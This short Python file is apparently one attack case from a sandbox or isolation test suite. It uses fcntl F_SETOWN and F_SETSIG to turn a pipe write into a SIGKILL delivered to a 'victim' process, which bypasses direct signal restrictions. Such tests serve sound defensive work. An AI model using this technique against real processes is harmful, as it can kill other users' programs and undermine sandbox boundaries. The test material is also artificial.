# /// attack
# title = "Lets a pipe send its signals to another process"
# moments = ["exit"]
# ///
import fcntl
import os
import signal


def attack():
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, WORLD["victim"])
    fcntl.fcntl(reader, 10, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")
    return "a signal"
